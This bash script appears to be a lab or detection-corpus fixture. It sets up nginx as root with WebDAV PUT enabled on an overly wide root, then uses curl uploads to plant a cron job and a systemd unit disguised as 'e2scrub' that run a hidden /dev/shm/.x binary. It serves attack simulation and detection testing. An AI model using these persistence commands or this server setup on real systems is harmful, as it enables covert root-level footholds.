#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=persistence-change half=report tool=nginx far=out services=nvr:8090 seconds=18 parts=dns before=yes
# A web server that takes files has had too wide a folder since its start: somebody outside puts a job of cron and a unit there; the host's root is a folder of the lab.
# config: host_root: {dir}/host
if [ "$1" = before ]; then exec "$(dirname "$0")/../far/host-root.sh"; fi
if [ "$1" = services ]; then
	mkdir -p "$LAB/put/tmp"; cat >"$LAB/put.conf" <<END
daemon off; worker_processes 1; user root; pid $LAB/put/pid; error_log $LAB/put/error.log;
events { worker_connections 64; }
http { access_log off; client_body_temp_path $LAB/host/tmp; proxy_temp_path $LAB/put/tmp; fastcgi_temp_path $LAB/put/tmp; uwsgi_temp_path $LAB/put/tmp; scgi_temp_path $LAB/put/tmp;
	server { listen 10.30.0.2:8090; root $LAB/host; location / { dav_methods PUT; create_full_put_path on; } } }
END
	exec timeout 60 nginx -c "$LAB/put.conf" -e "$LAB/put/error.log"
fi
if [ "$1" = out ]; then
	sleep 4; echo '*/5 * * * * root /dev/shm/.x' | curl -s -T - http://10.30.0.2:8090/etc/cron.d/e2scrub
	sleep 3; printf '[Service]\nExecStart=/dev/shm/.x\n' | curl -s -T - http://10.30.0.2:8090/etc/systemd/system/e2scrub.service; sleep 8; exit 0
fi
sleep 14; grep -q root "$LAB/host/etc/cron.d/e2scrub" && grep -q ExecStart "$LAB/host/etc/systemd/system/e2scrub.service"
